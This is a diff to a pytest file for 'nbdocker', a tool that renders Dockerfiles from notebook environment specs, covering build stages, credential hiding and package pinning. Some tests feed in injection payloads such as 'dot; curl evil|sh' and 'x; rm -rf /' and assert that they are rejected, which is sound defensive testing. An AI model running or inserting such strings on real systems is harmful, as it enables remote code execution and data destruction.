@@ -12,8 +12,11 @@ from typing import Dict, List
 
 import pytest
 
-from nbdocker.stages.image import (BuildOptions, default_tag, image_labels, render,
-                                 requirements_txt, runner_requirements_txt)
+from nbdocker.exceptions import InputError
+from nbdocker.stages.image import (BuildOptions, build_files, default_tag, image_labels, render,
+                                   install_script, render_app, render_system,
+                                   requirements_txt, runner_requirements_txt)
+from nbdocker.stages.image.dockerfile import RUNNER_TRIM
 from nbdocker.engine.fake import dockerfile_instructions
 from nbdocker.spec import (EnvironmentSpec, FileEntry, PythonInfo, Requirement, SystemPackage,
                            Unresolved)
@@ -52,6 +55,9 @@ CASES: Dict[str, tuple] = {
         ca_bundle="/etc/ssl/certs/ca-certificates.crt",
         index_url="https://user:s3cr3t@pypi.example.com/simple",
         extra_index_urls=("https://mirror.example.com/simple",), installer="uv")),
+    "single-uv-apt-guesses": (_spec(
+        apt_packages=(SystemPackage("graphviz", "2.42.2-7+b3"), SystemPackage("ffmpeg"))),
+        BuildOptions(installer="uv")),
     "apt-env-kernel-pinned": (_spec(
         apt_packages=(SystemPackage("libgomp1"), SystemPackage("fonts-dejavu-core")),
         env=(("MPLBACKEND", "Agg"), ("AWS_SECRET_ACCESS_KEY", "canary-env-1"),
@@ -89,34 +95,68 @@ def _stages(text: str) -> List[List[str]]:
     return stages
 
 
-def test_layer_order_puts_the_notebook_last_and_requirements_before_the_runner() -> None:
-    builder, final = _stages(render(_spec(), base_image=BASE, options=BuildOptions()))
-    assert builder[0] == f"FROM {BASE} AS builder"
-    installs = [i for i in builder if i.startswith("RUN") and "-r /tmp/nbdocker-build/" in i]
-    assert "requirements.txt" in installs[0] and "runner-requirements.txt" not in installs[0]
-    assert "runner-requirements.txt" in installs[1] and "--constraint" in installs[1]
-    assert final[0] == f"FROM {BASE}"
-    layer_kinds = [i.split()[0] for i in final]
-    notebook_copy = next(k for k, i in enumerate(final) if "notebook/" in i)
+def test_one_stage_without_ca_or_index_in_cache_order() -> None:
+    spec = _spec(apt_packages=(SystemPackage("graphviz"),))
+    (stage,) = _stages(render(spec, base_image=BASE, options=BuildOptions()))
+    assert stage[0] == f"FROM {BASE}"
+    kinds = [i.split()[0] for i in stage]
+    apt = next(k for k, i in enumerate(stage) if "apt-get install" in i)
+    copy_inputs = next(k for k, i in enumerate(stage) if "nbdocker-build/requirements.txt" in i)
+    install = next(k for k, i in enumerate(stage) if "pip install" in i)
+    runner = next(k for k, i in enumerate(stage) if "nbdocker_runner.py" in i)
+    notebook = next(k for k, i in enumerate(stage) if "notebook/" in i)
+    assert apt < copy_inputs < install < runner < notebook
     # Only metadata instructions (no filesystem layer) follow the notebook COPY.
-    assert set(layer_kinds[notebook_copy + 1:]) <= {"CMD", "LABEL"}
-    assert final.index(next(i for i in final if "--from=builder" in i)) < notebook_copy
-    assert any(i.startswith("USER 1000") for i in final)
+    assert set(kinds[notebook + 1:]) <= {"CMD", "LABEL"}
+    assert any(i.startswith("USER 1000") for i in stage)
+    # uv and the build inputs are removed in the layer that used them; no build ENV stays.
+    assert stage[install].endswith("rm -rf /tmp/nbdocker-uv /tmp/nbdocker-uv-venv "
+                                   "/tmp/nbdocker-warmup /tmp/nbdocker-build")
+    assert not any(i.startswith("ENV") and ("PIP_" in i or "UV_" in i) for i in stage)
 
 
-def test_build_time_files_stay_in_the_builder_stage() -> None:
+def test_one_resolver_pass_for_the_notebook_and_the_runner() -> None:
+    for options in (BuildOptions(installer="uv"), BuildOptions(installer="pip")):
+        text = render(_spec(), base_image=BASE, options=options)
+        install = next(i for i in dockerfile_instructions(text) if "pip install" in i)
+        both = "-r /tmp/nbdocker-build/requirements.txt -r /tmp/nbdocker-build/runner-requirements.txt"
+        # uv once (pip only as its fallback), or pip once.
+        commands = install.split(both)
+        assert len(commands) == (3 if options.installer == "uv" else 2), install
+        assert "--constraint" not in install
+
+
+def test_with_a_ca_or_index_the_text_shows_the_builder_stage_shape() -> None:
     options = BuildOptions(ca_bundle="/etc/ssl/certs/ca-certificates.crt",
                            index_url="https://u:p@idx.example/simple", installer="uv")
-    text = render(_spec(), base_image=BASE, options=options)
-    builder, final = _stages(text)
-    assert any("ca-bundle.crt" in i for i in builder)
-    assert any("pip.conf" in i for i in builder)
-    final_text = "\n".join(final)
+    text = render(_spec(apt_packages=(SystemPackage("graphviz"),)), base_image=BASE,
+                  options=options)
+    system, builder, env, final = _stages(text)
+    assert system[0] == f"FROM {BASE} AS system" and any("apt-get" in i for i in system)
+    assert builder[0] == "FROM system AS builder"
+    assert any("ca-bundle.crt" in i and "pip.conf" in i for i in builder)
+    assert env == ["FROM system AS env", "COPY --from=builder /opt/venv /opt/venv"]
+    assert final[0] == "FROM env" and final[1].startswith("ENV PATH=/opt/venv/bin")
+    assert "notebook/" in final[-3]
     for word in ("ca-bundle", "pip.conf", "uv.toml", "PIP_CERT", "SSL_CERT_FILE",
                  "nbdocker-uv", "ARG"):
-        assert word not in final_text
+        assert word not in "\n".join(env + final)
     # Neither the URL nor its password is ever part of the Dockerfile text.
     assert "idx.example" not in text and "u:p@" not in text
+
+
+def test_system_install_and_app_parts_are_the_full_dockerfile() -> None:
+    options = BuildOptions(ca_bundle="/x.pem")
+    system, builder, env, final = _stages(render(_spec(), base_image=BASE, options=options))
+    assert dockerfile_instructions(render_system(_spec(), base_image=BASE)) == \
+        [f"FROM {BASE}"] + system[1:]
+    assert builder[-1] == "RUN " + " ".join(install_script(_spec(), options).replace("\\\n", " ").split())
+    app = dockerfile_instructions(render_app(_spec(), env_image="sha256:abc", base_image=BASE))
+    assert app == ["FROM sha256:abc"] + final[1:]
+    # A notebook edit changes the app part only; the install script reads only files.
+    edited = _spec(files=(FileEntry("analysis.ipynb", "notebook", 11, "d" * 64),))
+    assert render_system(edited, base_image=BASE) == render_system(_spec(), base_image=BASE)
+    assert install_script(edited, options) == install_script(_spec(), options)
 
 
 def test_secret_looking_env_vars_are_not_rendered() -> None:
@@ -128,11 +168,29 @@ def test_secret_looking_env_vars_are_not_rendered() -> None:
     assert "DB_PASSWORD" not in text and "API_TOKEN" not in text
 
 
-def test_requirements_txt_pins_sorts_and_adds_unresolved_unpinned() -> None:
+def test_requirements_txt_pins_sorted_without_guesses_or_local_source() -> None:
     spec = _spec(unresolved=(Unresolved("sklearn", pypi_name="scikit-learn"),
-                             Unresolved("numpy")))  # already pinned: not listed twice
+                             Unresolved("numpy")),
+                 requirements=_spec().requirements + (
+                     Requirement("mypkg", "0.1.0", local="src/mypkg"),))
     assert requirements_txt(spec).splitlines() == [
-        "numpy==1.26.4", "pandas==2.2.2", "requests>=2.31", "scikit-learn"]
+        "numpy==1.26.4", "pandas==2.2.2", "requests>=2.31"]
+
+
+def test_guesses_travel_in_a_file_each_with_why() -> None:
+    spec = _spec(unresolved=(Unresolved("sklearn", ("import sklearn (cell 2)",), "scikit-learn"),
+                             Unresolved("mystery", ("from mystery import x (helpers.py)",)),
+                             Unresolved("numpy", pypi_name="numpy")))   # pinned: no guess
+    files = build_files(spec)
+    assert files["guesses.txt"].decode().splitlines() == [
+        "mystery\t`from mystery import x` in helpers.py",
+        "scikit-learn\t`import sklearn` in cell 2"]
+    text = render(spec, base_image=BASE)
+    assert "scikit-learn" not in text and "mystery" not in text   # names stay out of the text
+    assert "nbdocker-guess-failed: " in text
+    assert "guesses.txt" not in render(_spec(unresolved=()), base_image=BASE)
+    with pytest.raises(InputError, match="not a distribution name"):   # nbdocker.grammar
+        build_files(_spec(unresolved=(Unresolved("x", pypi_name="x; rm -rf /"),)))
 
 
 def test_runner_requirements_yield_to_the_spec_pins() -> None:
@@ -142,7 +200,31 @@ def test_runner_requirements_yield_to_the_spec_pins() -> None:
     assert runner_requirements_txt(pinned).splitlines() == ["nbclient==0.10.2"]
     both = _spec(requirements=(Requirement("ipykernel", "7.4.0"), Requirement("nbclient", "0.9.0")))
     assert runner_requirements_txt(both) == ""
-    assert "runner-requirements.txt --constraint" not in render(both, base_image=BASE)
+
+
+def test_apt_layer_is_sorted_quoted_pinned_and_cleans_its_lists() -> None:
+    spec = _spec(apt_packages=(SystemPackage("libgomp1"), SystemPackage("graphviz", "2.42.2-7+b3")))
+    (apt,) = [i for i in dockerfile_instructions(render(spec, base_image=BASE))
+              if "apt-get" in i]
+    assert apt == ("RUN apt-get update && DEBIAN_FRONTEND=noninteractive apt-get install -y "
+                   "--no-install-recommends graphviz=2.42.2-7+b3 libgomp1 "
+                   "&& rm -rf /var/lib/apt/lists/*")
+    for bad in (SystemPackage("dot; curl evil|sh"), SystemPackage("Graphviz"),
+                SystemPackage("graphviz", "1\nRUN x"), SystemPackage("a\nb")):
+        with pytest.raises(InputError, match="not a Debian (package name|version)"):
+            render(_spec(apt_packages=(bad,)), base_image=BASE)
+
+
+def test_warmup_imports_the_kernel_stack_and_what_the_notebook_imports() -> None:
+    spec = _spec(requirements=(
+        Requirement("matplotlib", "3.9.2", reasons=("import matplotlib.pyplot (cell 1)",
+                                                    "%matplotlib (cell 0)")),
+        Requirement("pandas", "2.2.2", reasons=("from pandas.plotting import x (cell 2)",)),
+        Requirement("six", "1.16.0", direct=False)))
+    modules = build_files(spec)["warmup.txt"].decode().split()
+    assert modules == ["matplotlib.pyplot", "mystery", "pandas.plotting", "sklearn"]
+    script = install_script(spec, BuildOptions())
+    assert "warmup.py nbclient ipykernel.kernelapp ipykernel.ipkernel" in script
 
 
 def test_default_tag_is_sanitised_and_hash_based() -> None:
@@ -165,14 +247,28 @@ def test_image_labels_name_the_spec() -> None:
     assert labels["org.opencontainers.image.title"] == "analysis"
 
 
-def test_unused_runner_packages_are_trimmed_unless_the_spec_needs_them() -> None:
-    trim_line = [line for line in render(_spec(), base_image=BASE).splitlines()
-                 if "pip uninstall" in line and "debugpy" in line]
-    assert trim_line and trim_line[0].endswith("debugpy jedi parso")
-    # A notebook that imports IPython gets jedi (and parso) in its locked closure: kept.
+def test_runner_only_packages_are_never_installed_unless_the_notebook_needs_them() -> None:
+    assert build_files(_spec())["overrides.txt"].decode().splitlines() == [
+        'debugpy ; sys_platform == "never"', 'jedi ; sys_platform == "never"',
+        'parso ; sys_platform == "never"']
+    pip = render(_spec(), base_image=BASE, options=BuildOptions(installer="pip"))
+    assert "pip uninstall --quiet --yes debugpy jedi parso setuptools" in pip
+    # A notebook whose own closure needs jedi (a package that is not the kernel's) keeps it.
     needs_jedi = _spec(requirements=(Requirement("ipython", "8.20.0"),
-                                     Requirement("jedi", "0.19.1", direct=False),
-                                     Requirement("parso", "0.8.3", direct=False)))
-    lines = [line for line in render(needs_jedi, base_image=BASE).splitlines()
-             if "pip uninstall" in line and "debugpy" in line]
-    assert lines == ["RUN /opt/venv/bin/python -m pip uninstall --quiet --yes debugpy"]
+                                     Requirement("jedi", "0.19.1", direct=False,
+                                                 required_by=("ipython",)),
+                                     Requirement("parso", "0.8.3", direct=False,
+                                                 required_by=("jedi",))))
+    assert build_files(needs_jedi)["overrides.txt"] == b'debugpy ; sys_platform == "never"\n'
+    assert "jedi==0.19.1" in requirements_txt(needs_jedi)
+    # Pinned only for the kernel stack (capture marks it `kernel`): still left out.
+    kernel = _spec(requirements=(
+        Requirement("ipython", "8.20.0", direct=False, kernel=True, required_by=("ipykernel",)),
+        Requirement("ipykernel", "6.29.5", direct=False, kernel=True),
+        Requirement("jedi", "0.19.1", direct=False, kernel=True, required_by=("ipython",)),
+        Requirement("six", "1.16.0")))
+    assert "jedi" not in requirements_txt(kernel) and "ipython==8.20.0" in requirements_txt(kernel)
+    assert "jedi ; " in build_files(kernel)["overrides.txt"].decode()
+    everything = _spec(requirements=tuple(Requirement(n, "1.0") for n in RUNNER_TRIM))
+    assert "overrides.txt" not in build_files(everything)
+    assert "--overrides" not in render(everything, base_image=BASE)
